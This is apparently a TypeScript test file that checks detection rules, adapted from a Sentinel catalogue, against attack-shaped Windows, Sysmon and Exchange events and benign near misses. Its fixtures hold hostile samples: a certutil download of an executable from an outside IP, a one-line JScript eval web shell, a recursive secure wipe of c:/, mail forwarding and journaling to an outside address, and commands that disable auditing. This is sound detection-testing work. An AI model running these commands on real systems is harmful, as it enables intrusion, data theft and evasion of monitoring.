// Built-in rules written from a public detection catalogue (Microsoft Sentinel's Windows analytics and hunting queries
// over the Security log, the Application log, Sysmon and process creation), read as a list of attack shapes: each rule
// fires on the event it is written for, as Windows or Sysmon writes it, with its level and tactic, and a benign near
// miss of the same event id does not.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { builtinHits, describeCatalogue, PS, regValue, S32, SUBJ, windowsEvent, type CatalogueCase, type Ev } from './builtin.fixture.js';

// This file's own clock (ten seconds an event) and, below, Sysmon events with UtcTime, ProcessGuid and ProcessId.
let t = 0;
function win(channel: string, provider: string, eventId: number, data: JsonRecord, host = 'SRV01'): Ev {
  t += 10;
  return windowsEvent(t, channel, provider, eventId, data, host);
}
const sec = (eventId: number, data: JsonRecord): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', eventId, data);
const system = { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'SRV01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' };
const proc4688 = (image: string, cmd: string, parent = `${S32}cmd.exe`): Ev =>
  sec(4688, { ...SUBJ, NewProcessId: '0x1a2c', NewProcessName: image, TokenElevationType: '%%1937', ProcessId: '0x1234', CommandLine: cmd, TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: parent, MandatoryLabel: 'S-1-16-12288' });
const sysmonProc = (image: string, cmd: string, parent = `${S32}cmd.exe`, extra: JsonRecord = {}): Ev =>
  win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, { UtcTime: '2026-12-01 06:00:00.000', ProcessGuid: '{1}', ProcessId: '4412', Image: image, OriginalFileName: image.split('\\').pop() ?? '', CommandLine: cmd, CurrentDirectory: 'C:\\Users\\bob\\', User: 'CORP\\bob', IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent, ...extra }, 'WS01');
const keyRead = (key: string, processName: string, who: JsonRecord = SUBJ): Ev =>
  sec(4663, { ...who, ObjectServer: 'Security', ObjectType: 'Key', ObjectName: key, HandleId: '0x1a4', AccessList: '%%4416', AccessMask: '0x1', ProcessId: '0x1ee0', ProcessName: processName });
const logon = (user: string, sid: string): Ev =>
  sec(4624, { ...system, TargetUserSid: sid, TargetUserName: user, TargetDomainName: 'SRV01', TargetLogonId: '0x8a1b2', LogonType: 2, LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', WorkstationName: 'SRV01', IpAddress: '127.0.0.1', IpPort: '0', ElevatedToken: '%%1842' });
const ds = (cls: string, attr: string, value: string): Ev =>
  sec(5136, { OpCorrelationID: '{7}', AppCorrelationID: '-', ...SUBJ, DSName: 'corp.example', DSType: '%%14676', ObjectDN: 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group,CN=Administrative Groups,CN=Corp,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example', ObjectGUID: '{8}', ObjectClass: cls, AttributeLDAPDisplayName: attr, AttributeSyntaxOID: '2.5.5.12', AttributeValue: value, OperationType: '%%14674' });
const sqlAudit = (statement: string): Ev =>
  win('Application', 'MSSQL$MICROSOFT##WID', 33205, { Data: [`Audit event: action_id:SL\nsucceeded:true\nserver_principal_name:CORP\\adfsadmin\n${statement}\n`] }, 'ADFS01');
const serviceHandle = (service: string, accessList: string): Ev =>
  sec(4656, { ...SUBJ, ObjectServer: 'SC Manager', ObjectType: 'SERVICE OBJECT', ObjectName: service, HandleId: '0x0', AccessList: accessList, AccessMask: '0x20', PrivilegeList: '-', ProcessId: '0x1ee0', ProcessName: `${S32}sc.exe` });
const transaction = (processName: string): Ev =>
  sec(4985, { ...SUBJ, TransactionId: '{5A1B2C3D-1111-2222-3333-444455556666}', NewState: '52', ResourceManager: '{0}', ProcessId: '0x1ee0', ProcessName: processName });
const appError = (provider: string, text: string): Ev => win('Application', provider, 1, { Data: [text] }, 'EX01');
const fileWritten = (image: string, file: string): Ev =>
  win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 11, { UtcTime: '2026-12-01 06:00:00.000', ProcessGuid: '{1}', ProcessId: '4412', Image: image, TargetFilename: file, CreationUtcTime: '2026-12-01 06:00:00.000', User: 'CORP\\bob' }, 'WS01');
const dsRead = (objectType: string, properties: string): Ev =>
  sec(4662, { ...SUBJ, ObjectServer: 'DS', ObjectType: `%{${objectType}}`, ObjectName: '%{0d3e5f60-1111-2222-3333-444455556666}', OperationType: 'Object Access', HandleId: '0x0', AccessList: '%%7684', AccessMask: '0x10', Properties: `%%7684 {77b5b886-944a-11d1-aebd-0000f80367c1} {${properties}} {${objectType}}`, AdditionalInfo: '-', AdditionalInfo2: '' });
const fileHandle = (object: string, processName: string, mask: string): Ev =>
  sec(4663, { ...SUBJ, ObjectServer: 'Security', ObjectType: 'File', ObjectName: object, HandleId: '0x1a4', AccessList: mask === '0x2' ? '%%4417' : '%%4416', AccessMask: mask, ProcessId: '0x1ee0', ProcessName: processName });
const cmdlet = (name: string, params: string): Ev =>
  win('MSExchange Management', 'MSExchange CmdletLogs', 1, { Data: { '#text': [name, params, 'corp.example/Users/admin2', 'S-1-5-21-1-2-3-1500', 'S-1-5-21-1-2-3-1500', 'Remote-ManagementShell-Unknown', '5668 w3wp#MSExchangePowerShellAppPool', '', '5', '00:00:01.0389557'] } }, 'EX01');
const hits = builtinHits;

/** [rule title, level, a tactic it carries, the events it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['AD FS Configuration Database Service Settings Read Or Changed (audit 33205)', 'medium', 'credential-access',
    [sqlAudit('database_name:AdfsConfigurationV4\nschema_name:IdentityServerPolicy\nobject_name:ServiceSettings\nstatement:SELECT ServiceSettingsData FROM IdentityServerPolicy.ServiceSettings')],
    [sqlAudit('database_name:AdfsArtifactStore\nschema_name:ArtifactStore\nobject_name:Artifact\nstatement:DELETE FROM ArtifactStore.Artifact WHERE ExpirationTime < @now')]],
  ['Directory Services Restore Mode Administrator Allowed To Log On Over The Network (4657)', 'high', 'persistence',
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa', 'DsrmAdminLogonBehavior', '2')],
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa', 'DsrmAdminLogonBehavior', '0')]],
  ['ShellBrowserWindow COM Object Started Out Of Process', 'medium', 'lateral-movement',
    [sysmonProc(`${S32}rundll32.exe`, 'rundll32.exe shell32.dll,SHCreateLocalServerRunDll {c08afd90-f2a1-11d1-8455-00a0c91f3880} -Embedding', `${S32}svchost.exe`)],
    [sysmonProc(`${S32}rundll32.exe`, 'rundll32.exe shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding', `${S32}svchost.exe`)]],
  ['Script Code Written Into An Exchange Virtual Directory Attribute', 'high', 'persistence',
    [ds('msExchOABVirtualDirectory', 'msExchExternalHostName', 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>')],
    [ds('msExchOABVirtualDirectory', 'msExchExternalHostName', 'https://mail.corp.example/OAB')]],
  ['.NET Deserialization Gadget Named In An Application Error', 'medium', 'initial-access',
    [appError('MSExchange Unified Messaging', 'An unhandled exception occurred in a UM worker process: System.InvalidCastException')],
    [appError('MSExchange Unified Messaging', 'The Microsoft Exchange Unified Messaging service failed to start: System.OutOfMemoryException')]],
  ['Device Transport Key Registry Key Read By A Program Outside The System Account', 'medium', 'credential-access',
    [keyRead('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Cryptography\\Ngc\\KeyTransportKey\\PerDeviceKeyTransportKey', PS)],
    [keyRead('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Cryptography\\Ngc\\KeyTransportKey\\PerDeviceKeyTransportKey', `${S32}lsass.exe`, system)]],
  ['Per-User Shell Open Command Of An Auto-Elevating Class Written (4657)', 'high', 'privilege-escalation',
    [regValue('\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104_Classes\\ms-settings\\Shell\\Open\\command', '', 'C:\\Users\\Public\\u.exe', '%%1904')],
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\txtfile\\shell\\open\\command', '', 'C:\\Program Files\\Notepad++\\notepad++.exe "%1"', '%%1904', 'C:\\Users\\bob\\Downloads\\npp.Installer.x64.exe')]],
  ['Built-In Guest Or Default Account Logged On With The Administrator RID', 'high', 'privilege-escalation',
    [logon('Guest', 'S-1-5-21-9-9-9-500')], [logon('Administrator', 'S-1-5-21-9-9-9-500')]],
  ['Scheduled Task Security Descriptor Deleted From The Task Cache (4657)', 'high', 'stealth',
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\WinUpd', 'SD', '', '%%1906')],
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\WinUpd', 'SD', 'AQAEgA==', '%%1905', `${S32}svchost.exe`)]],
  ['Stop Or Reconfiguration Of A Security Agent Service Requested (4656)', 'medium', 'defense-impairment',
    [serviceHandle('HealthService', '%%7189')], [serviceHandle('HealthService', '%%7186 %%7191')]],
  ['System Crash Dumps Switched Off (4657)', 'low', 'defense-impairment',
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\CrashControl', 'CrashDumpEnabled', '0')],
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\CrashControl', 'CrashDumpEnabled', '7')]],
  ['Program With A One-Character Name Started From A User-Writable Folder', 'low', 'execution',
    [proc4688('C:\\Users\\Public\\a.exe', 'a.exe')], [proc4688('C:\\Users\\bob\\AppData\\Local\\Temp\\ab.exe', 'ab.exe')]],
  ['File System Transaction Used By A Program In A User-Writable Folder (4985)', 'low', 'stealth',
    [transaction('C:\\Users\\Public\\d.exe')], [transaction(`${S32}svchost.exe`)]],
  ['Windows Tool Command Line With Fullwidth Or Small Modifier Letters', 'medium', 'stealth',
    [proc4688(`${S32}certutil.exe`, 'certutil.exe -urlc\uff41che -f http://203.0.113.7/a.exe a.exe')],
    [proc4688(`${S32}certutil.exe`, 'certutil.exe -hashfile "C:\\Users\\bob\\Documents\\R\u00e9sum\u00e9.pdf" SHA256')]],
  ['Program Run From The Default Domain Or Default Domain Controllers Policy Folder', 'medium', 'lateral-movement',
    [proc4688('\\\\corp.example\\SysVol\\corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Scripts\\Startup\\upd.exe', 'upd.exe', `${S32}gpscript.exe`)],
    [proc4688('\\\\corp.example\\SysVol\\corp.example\\Policies\\{D1A2B3C4-1111-2222-3333-444455556666}\\Machine\\Scripts\\Startup\\inventory.exe', 'inventory.exe', `${S32}gpscript.exe`)]],
  ['Recursive Quiet Secure Delete From A Command Line', 'medium', 'impact',
    [proc4688('C:\\Users\\Public\\svc.exe', 'svc.exe -accepteula -r -s -q c:/')],
    [proc4688('C:\\Tools\\sdelete64.exe', 'sdelete64.exe -accepteula -p 3 C:\\Users\\bob\\old.docx')]],
  ['Port Proxy Added Through A Command Line Of Another Program', 'medium', 'command-and-control',
    [proc4688(`${S32}wbem\\WMIC.exe`, 'wmic process call create "netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=10.0.0.40"')],
    [proc4688(`${S32}wbem\\WMIC.exe`, 'wmic process call create "netsh interface portproxy show all"')]],
  ['Password Dump Tool Output File Written (Sysmon 11)', 'high', 'credential-access',
    [fileWritten('C:\\Users\\Public\\fgdump.exe', 'C:\\Users\\Public\\2026-12-01-06-00-00.fgdump-log')],
    [fileWritten('C:\\Program Files\\Vendor\\app.exe', 'C:\\ProgramData\\Vendor\\logs\\app-dump.log')]],
  ["AD FS Key Container Contact's thumbnailPhoto Read In The Directory (4662)", 'medium', 'credential-access',
    [dsRead('5cb41ed0-0e4c-11d0-a286-00aa003049e2', '8d3bca50-1d7e-11d0-a081-00aa006c33ed')],
    [dsRead('bf967aba-0de6-11d0-a285-00aa003049e2', '8d3bca50-1d7e-11d0-a081-00aa006c33ed')]],
  ['COM Class Server Pointed Into The Colour Profile, Public Or Temporary Folder (4657)', 'high', 'persistence',
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\CLSID\\{1f486a52-3cb1-48fd-8f50-b8dc300d9f9d}\\InprocServer32', '', 'C:\\Windows\\System32\\spool\\drivers\\color\\x.dat')],
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\CLSID\\{1f486a52-3cb1-48fd-8f50-b8dc300d9f9d}\\InprocServer32', '', 'C:\\Program Files\\Vendor\\shellext.dll', '%%1905', `${S32}msiexec.exe`)]],
  ['Web Or Application Server Process Wrote A Server-Side Script (4663)', 'medium', 'persistence',
    [fileHandle('C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx', 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe', '0x2')],
    [fileHandle('C:\\inetpub\\wwwroot\\default.aspx', `${S32}inetsrv\\w3wp.exe`, '0x1')]],
  ['Print Processor DLL Registered In The Registry (4657)', 'medium', 'persistence',
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\UDPrint', 'Driver', 'pp.dll', '%%1904')],
    [regValue('\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Print\\Environments\\Windows x64\\Print Processors\\winprint', 'Driver', 'winprint.dll', '%%1905', `${S32}spoolsv.exe`)]],
  ['Automatic Windows Updates Switched Off In The Policy Keys By A Program (4657)', 'low', 'defense-impairment',
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU', 'NoAutoUpdate', '1', '%%1904')],
    [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU', 'NoAutoUpdate', '1', '%%1904', `${S32}svchost.exe`)]],
  ['Mail Forwarded, Copied Or Journaled By An Exchange Management Cmdlet', 'medium', 'collection',
    [cmdlet('Set-Mailbox', '-Identity "ceo" -DeliverToMailboxAndForward "True" -ForwardingSmtpAddress "smtp:drop@example.net"')],
    [cmdlet('Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress $null')]],
  ['Mailbox, Folder Or Send-As Access Granted By An Exchange Management Cmdlet', 'low', 'persistence',
    [cmdlet('Add-MailboxPermission', '-Identity "ceo" -User "corp\\svc_backup" -AccessRights "FullAccess" -InheritanceType "All"')],
    [cmdlet('Get-MailboxPermission', '-Identity "ceo"')]],
  ['Exchange Impersonation, Search Or Organization-Wide Role Granted By A Management Cmdlet', 'medium', 'persistence',
    [cmdlet('New-ManagementRoleAssignment', '-Name "imp" -Role "ApplicationImpersonation" -User "svc_backup"')],
    [cmdlet('New-ManagementRoleAssignment', '-Name "helpdesk" -Role "Mail Recipients" -SecurityGroup "Helpdesk"')]],
  ['Mailbox Or Administrator Audit Logging Switched Off By An Exchange Management Cmdlet', 'high', 'defense-impairment',
    [cmdlet('Set-MailboxAuditBypassAssociation', '-Identity "svc_backup" -AuditBypassEnabled $true')],
    [cmdlet('Set-Mailbox', '-Identity "ceo" -AuditEnabled $true')]],
  ['Mailbox Content Searched Into Another Mailbox Or Exported By An Exchange Management Cmdlet', 'low', 'collection',
    [cmdlet('Search-Mailbox', '-Identity "ceo" -SearchQuery "password" -TargetMailbox "svc_backup" -TargetFolder "found"')],
    [cmdlet('Search-Mailbox', '-Identity "ceo" -SearchQuery "invoice" -EstimateResultOnly')]],
  ['Holders Of Exchange\'s Mailbox Import Export Role Or Mailbox Sizes Listed By Cmdlet', 'medium', 'discovery',
    cmdlet('Get-ManagementRoleAssignment', '-Role "Mailbox Import Export"'), cmdlet('Get-ManagementRoleAssignment', '-Role "Mail Recipients"')],
];

describeCatalogue('built-in rules from the Sentinel catalogue (Security, Application, Sysmon, process creation)', cases);

describe('built-in rules from the Sentinel catalogue: variants', () => {
  it('each deserialization gadget name is read in any Application provider', () => {
    const title = '.NET Deserialization Gadget Named In An Application Error';
    for (const gadget of ['Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties', 'System.Windows.Data.ObjectDataProvider', 'TypeConfuseDelegate', 'ActivitySurrogateSelector']) {
      expect(hits([appError('ASP.NET 4.0.30319.0', `Exception type: SerializationException ${gadget}`)]).has(title), gadget).toBe(true);
    }
  });

  it('the other auto-elevating class handlers and the Defender service are read; a HKLM class is not', () => {
    const uac = 'Per-User Shell Open Command Of An Auto-Elevating Class Written (4657)';
    for (const cls of ['mscfile', 'exefile', 'Folder']) {
      expect(hits([regValue(`\\REGISTRY\\USER\\S-1-5-21-1-2-3-1104_Classes\\${cls}\\Shell\\Open\\command`, '', 'C:\\Users\\Public\\u.exe', '%%1904')]).has(uac), cls).toBe(true);
    }
    expect(hits([regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\mscfile\\Shell\\Open\\command', '', '%SystemRoot%\\system32\\mmc.exe "%1" %*', '%%1905', `${S32}msiexec.exe`)]).has(uac)).toBe(false);
    expect(hits([serviceHandle('WinDefend', '%%7185')]).has('Stop Or Reconfiguration Of A Security Agent Service Requested (4656)')).toBe(true);
    expect(hits([serviceHandle('Spooler', '%%7189')]).has('Stop Or Reconfiguration Of A Security Agent Service Requested (4656)')).toBe(false);
  });

  it('fullwidth and small modifier letters are read here; spacing modifier letters are left to the modifier-letter rule, so one event is reported once', () => {
    const mine = 'Windows Tool Command Line With Fullwidth Or Small Modifier Letters';
    const other = 'Windows Tool Arguments Written With Unicode Modifier Letters';
    const small = hits([proc4688(`${S32}certutil.exe`, 'certutil.exe -urlca\u1d9ce -f http://203.0.113.7/a.exe a.exe')]);
    expect(small.has(mine)).toBe(true);
    expect(small.has(other)).toBe(false);
    const spacing = hits([proc4688(`${S32}certutil.exe`, 'certutil.exe -urlcac\u02b0e -f http://203.0.113.7/a.exe a.exe')]);
    expect(spacing.has(other)).toBe(true);
    expect(spacing.has(mine)).toBe(false);
  });

  it('every forwarding and copying cmdlet is read, and only when the cmdlet ran (event 1, not the failure event 6)', () => {
    const title = 'Mail Forwarded, Copied Or Journaled By An Exchange Management Cmdlet';
    const shapes: [string, string][] = [
      ['Set-Mailbox', '-Identity "cfo" -ForwardingAddress "corp.example/Users/contact9"'],
      ['New-TransportRule', '-Name "Compliance" -SentToScope "NotInOrganization" -BlindCopyTo "drop@example.net"'],
      ['Set-TransportRule', '-Identity "Compliance" -RedirectMessageTo "drop@example.net"'],
      ['Set-RemoteDomain', '-Identity "Default" -AutoForwardEnabled $true'],
      ['New-JournalRule', '-Name "All" -JournalEmailAddress "drop@example.net" -Scope Global -Enabled $true'],
      ['Set-MailboxDatabase', '-Identity "DB01" -JournalRecipient "drop"'],
      ['Set-TransportService', '-Identity "EX01" -PipelineTracingEnabled $true'],
    ];
    for (const [name, params] of shapes) expect(hits([cmdlet(name, params)]).has(title), name).toBe(true);
    const failed = win('MSExchange Management', 'MSExchange CmdletLogs', 6, { Data: { '#text': ['Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@example.net"'] } }, 'EX01');
    expect(hits([failed]).has(title)).toBe(false);
  });

  it('a renamed netsh is not excused by its name, and netsh itself is left to the netsh rules', () => {
    const title = 'Port Proxy Added Through A Command Line Of Another Program';
    expect(hits([proc4688(PS, 'powershell.exe -c "netsh interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=10.0.0.40"')]).has(title)).toBe(true);
    expect(hits([proc4688(`${S32}netsh.exe`, 'netsh interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=10.0.0.40')]).has(title)).toBe(false);
  });
});
